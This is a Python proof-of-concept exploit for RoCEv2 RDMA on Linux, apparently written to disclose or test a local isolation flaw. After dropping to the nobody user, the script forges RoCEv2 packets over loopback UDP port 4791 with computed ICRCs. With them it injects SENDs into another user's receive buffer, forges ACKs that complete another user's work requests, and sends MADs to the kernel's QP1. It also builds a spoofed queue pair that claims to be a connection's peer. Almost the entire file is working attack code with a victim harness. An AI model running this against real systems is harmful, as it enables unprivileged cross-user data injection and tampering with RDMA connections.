"""A local process forging RoCEv2 packets into connections whose two ends are on its own host.

Any process may open a plain UDP socket, bind it to a local address and send a datagram to that
address's port 4791: it comes back through `lo` with a local source address, which is the peer
address of every RC connection between two processes of the host. With the live PSNs in hand
(`rdma resource show qp -dd`) and a valid ICRC, such a packet was a SEND into another user's
receive buffer, an ACK completing another user's WQEs, or a MAD to the kernel's QP1.

Usage:
  local_forger.py victim DEVICE    two RC QPs of DEVICE connected through its IPv4 GID; prints
                                   "A_QPN B_QPN"; then for each line "real" on stdin, A SENDs
                                   "realsend" to B and it prints what B's posted receive got:
                                   "received HEX COMPLETIONS" (or "no completion")
  local_forger.py forge SRC DST QPN KIND PSN
                                   started as root, becomes nobody (uid and gid 65534, no
                                   groups, no capabilities) and sends one datagram from a UDP
                                   socket bound to SRC (port chosen by the kernel) to DST:4791,
                                   for QP QPN at PSN; KIND: send (RC SEND ONLY of "forged!!"),
                                   ack (RC ACKNOWLEDGE), mad (UD SEND ONLY of a 256-byte MAD to
                                   QP1 with the GSI Q_Key)
  local_forger.py qp DEVICE QPN PSN
                                   started as root, becomes nobody and, through libibverbs,
                                   makes an RC QP of its own on DEVICE that claims to be QP
                                   QPN's peer: the device's IPv4 GID at both ends, QPN as its
                                   destination, PSN as its first; it SENDs "forged!!" and prints
                                   the completion: "forger's SEND: status N"

A QP of this host may use any GID of its device, so addresses cannot tell a connection's peer
from another local QP aimed at it: local delivery tells which QP sent a packet.
"""
import os
import socket
import struct
import sys
import time

from roce_send import icrc

IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
GSI_QKEY = 0x80010000
NOBODY = 65534


def transport(kind, qpn, psn):
    """The BTH and what follows it, up to the ICRC."""
    if kind == "send":
        return struct.pack("!BBHII", 0x04, 0x40, 0xFFFF, qpn, (1 << 31) | psn) + b"forged!!"
    if kind == "ack":
        return struct.pack("!BBHII", 0x11, 0x40, 0xFFFF, qpn, psn) + struct.pack("!I", 0x1F << 24 | psn)
    if kind == "mad":
        deth = struct.pack("!II", GSI_QKEY, 1)
        return struct.pack("!BBHII", 0x64, 0x40, 0xFFFF, 1, psn) + deth + bytes(256)
    sys.exit(f"unknown kind {kind}")


def become_nobody():
    """The rest is done as nobody, without capabilities: what any local process may do."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def forge(src, dst, qpn, kind, psn):
    become_nobody()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # DF on an unconnected socket: the kernel gives the datagram IP ID 0, so its header, which
    # the ICRC covers, is known in advance (TOS, TTL and the checksums are masked out).
    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    s.bind((src, 0))
    sport = s.getsockname()[1]
    body = transport(kind, qpn & 0xFFFFFF, psn & 0xFFFFFF)
    udp_len = 8 + len(body) + 4
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    udp = struct.pack("!HHHH", sport, 4791, udp_len, 0)
    s.sendto(body + struct.pack("<I", icrc(ip + udp + body)), (dst, 4791))
    print(f"uid {os.getuid()} sent {kind} to QP {qpn:#x} at PSN {psn} from port {sport}", flush=True)


def victim(device):
    from pyverbs.device import Context
    from pyverbs.wr import RecvWR, SGE
    import pyverbs.enums as e
    from rdma_data import pair

    ctx = Context(name=device)
    a, b = pair(ctx)
    inbox = b.mr(64)
    b.qp.post_recv(RecvWR(wr_id=7, num_sge=1, sg=[SGE(inbox.buf, 64, inbox.lkey)]))
    print(a.qp.qp_num, b.qp.qp_num, flush=True)
    for line in sys.stdin:
        if line.strip() != "real":
            break
        _src = a.start_data(e.IBV_WR_SEND, b"realsend", wr_id=8)
        deadline, got = time.time() + 30, []
        while time.time() < deadline and not got:
            n, wcs = b.cq.poll(4)
            got = list(wcs[:n])
            time.sleep(0.05)
        if not got:
            print("no completion", flush=True)
            continue
        time.sleep(0.5)
        n, more = b.cq.poll(4)
        print(f"received {inbox.read(8, 0).hex()} {len(got) + n} {got[0].status}", flush=True)


def qp_forge(device, qpn, psn):
    become_nobody()
    from pyverbs.device import Context
    import pyverbs.enums as e
    from rdma_data import Side, ipv4_gid_index

    ctx = Context(name=device)
    forger = Side(ctx)
    gid_index, gid = ipv4_gid_index(ctx)
    # One retry after 1 ms (timeout 8): the forgery either lands at once or never.
    forger.connect(qpn, gid_index, gid, timeout=8, retry_cnt=1, sq_psn=psn)
    _src = forger.start_data(e.IBV_WR_SEND, b"forged!!")
    wc = forger.completion("the forged SEND", timeout=30)
    print(f"uid {os.getuid()}: QP {forger.qp.qp_num:#x} as QP {qpn:#x}'s peer at PSN {psn}: "
          f"forger's SEND: status {wc.status}", flush=True)


def main():
    if sys.argv[1] == "victim":
        victim(sys.argv[2])
    elif sys.argv[1] == "qp":
        qp_forge(sys.argv[2], int(sys.argv[3], 0), int(sys.argv[4], 0))
    elif sys.argv[1] == "forge":
        forge(sys.argv[2], sys.argv[3], int(sys.argv[4], 0), sys.argv[5], int(sys.argv[6], 0))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
